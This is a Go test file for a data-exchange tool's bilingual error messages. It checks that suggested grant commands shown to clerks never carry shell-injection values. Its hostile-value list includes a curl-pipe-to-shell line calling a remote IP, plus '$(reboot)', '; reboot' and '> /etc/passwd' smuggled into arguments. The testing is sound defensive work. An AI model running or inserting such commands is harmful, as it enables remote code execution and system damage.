package failure

import (
	"regexp"
	"strings"
	"testing"

	"xietong/certs/identity"
	"xietong/exchange/relay"
	"xietong/node/ground/text"
)

// Commands as a provider of Guiyang puts them together.
const (
	given = "xietong grant give villages water@yunyan.guiyang.guizhou --in guiyang.guizhou --as civil-affairs --purpose statistics"
	named = given + " --fields code,姓名"
	again = "xietong grant renew 24 --in guiyang.guizhou --as civil-affairs"
)

// hostileValues are values with which somebody refuses who wants a clerk to run another command.
var hostileValues = []string{
	"curl -s http://192.0.2.1/x | sh #", "x; reboot", "$(reboot)", "`reboot`", "a\nreboot", "x && reboot", "> /etc/passwd", "--rekey", "*", "~root", "'a", `"a`, "a!b", "{x,y}", `a\`,
	"xietong grant give villages water@yunyan.guiyang.guizhou --in guiyang.guizhou --as civil-affairs --purpose statistics; reboot",
	given + " --fields a,$(reboot)", given + " --fields a;reboot", named + " --until 2030", strings.Replace(given, "villages", "x/../y", 1), strings.Replace(again, "24", "24;x", 1),
}

// copied returns the commands of a sentence: in English they stand in back quotes.
func copied(l text.Lang, sentence string) (all []string) {
	if l == text.Zh {
		return regexp.MustCompile("xietong [ -~]*").FindAllString(sentence, -1)
	}
	for i, part := range strings.Split(sentence, "`") {
		if i%2 == 1 {
			all = append(all, part)
		}
	}
	return all
}

// TestCommandsAreOurs (A38) explains every problem in both languages with values of somebody who
// wants a clerk to run another command. No value that a shell obeys gets into what is there to be
// copied, and no sentence gets a command more.
func TestCommandsAreOurs(t *testing.T) {
	tried := 0
	for number := range uint16(1000) {
		if number != 0 && text.Number(text.ByNumber(number)) != number {
			continue
		}
		calm := relay.Problem{Code: number, At: guiyang(t), Args: slicesOf("v")}
		for _, value := range hostileValues {
			for _, l := range []text.Lang{text.Zh, text.En} {
				p := relay.Problem{Code: number, At: guiyang(t), Args: slicesOf(value)}
				if l == text.Zh && strings.HasPrefix(value, "xietong ") { // only what is said by the sentence is marked there
					p.Args = text.Values(text.ByNumber(number), text.Args{"give": value, "renew": value, "grant": value, "index": value})
				}
				f, quiet := Of(&p), Of(&calm)
				e, wanted := text.Explain(l, f.Code, f.Args), text.Explain(l, f.Code, quiet.Args)
				if got, want := strings.Count(e.Do+e.What+e.Where, "`"), strings.Count(wanted.Do+wanted.What+wanted.Where, "`"); got != want {
					t.Errorf("%s %q: got %q with %d back quotes, want %d", f.Code, value, e, got, want)
				}
				for _, command := range copied(l, e.Do) {
					if strings.ContainsAny(command, ";|&$<>#*~!{}\\\n'") || strings.Contains(command, "reboot") {
						t.Errorf("%s %q: got %s", f.Code, value, command)
					}
					tried++
				}
			}
		}
	}
	if tried < 500 {
		t.Errorf("%d commands were seen", tried)
	}
}

func slicesOf(value string) []string {
	all := make([]string, 12)
	for i := range all {
		all[i] = value
	}
	return all
}

// TestCommandsStay: the commands that a provider puts together are told whole, those of the
// jurisdiction that refuses alone.
func TestCommandsStay(t *testing.T) {
	elsewhere := strings.Replace(given, "--in guiyang.guizhou", "--in zunyi.guizhou", 1)
	for _, row := range []struct {
		code text.Code
		name string
		sent string
		want string
	}{
		{text.GrantNeeded, "give", given, given}, {text.FieldNotGranted, "give", named, named}, {text.GrantNeeded, "give", elsewhere, "xietong grant give …"},
		{text.GrantEnded, "renew", again, again}, {text.GrantEnded, "renew", strings.Replace(again, "guiyang", "zunyi", 1), "xietong grant renew …"},
		{text.GrantElsewhere, "grant", "guiyang.guizhou/log/1/7", "guiyang.guizhou/log/1/7"},
	} {
		p := &relay.Problem{Code: text.Number(row.code), At: guiyang(t), Args: text.Values(row.code, text.Args{row.name: row.sent})}
		f := Of(p)
		if got := f.Args[row.name]; got != row.want {
			t.Errorf("%s: got %q of %q, want %q", row.code, got, row.sent, row.want)
		}
		for _, l := range []text.Lang{text.Zh, text.En} {
			if e := text.Explain(l, f.Code, f.Args); !strings.Contains(e.Do, row.want) {
				t.Errorf("%s: got %q, want %q in it", row.code, e.Do, row.want)
			}
		}
	}
}

// TestAsked leaves out a command that gives something else than was asked for.
func TestAsked(t *testing.T) {
	p := &relay.Problem{Code: text.Number(text.GrantNeeded), At: guiyang(t), Args: text.Values(text.GrantNeeded, text.Args{"dataset": "villages", "give": given})}
	for _, row := range []struct{ dataset, purpose, want string }{
		{"villages", "statistics", given}, {"secrets", "statistics", "xietong grant give …"}, {"villages", "sale", "xietong grant give …"},
	} {
		code, err := identity.ParseLabel(row.dataset)
		if err != nil {
			t.Fatal(err)
		}
		asked := Asked(p, code, row.purpose)
		if f := Of(asked); f.Code != text.GrantNeeded || f.Args["give"] != row.want || f.Args["dataset"] != "villages" {
			t.Errorf("%v: got %v", row, f.Args)
		}
	}
}
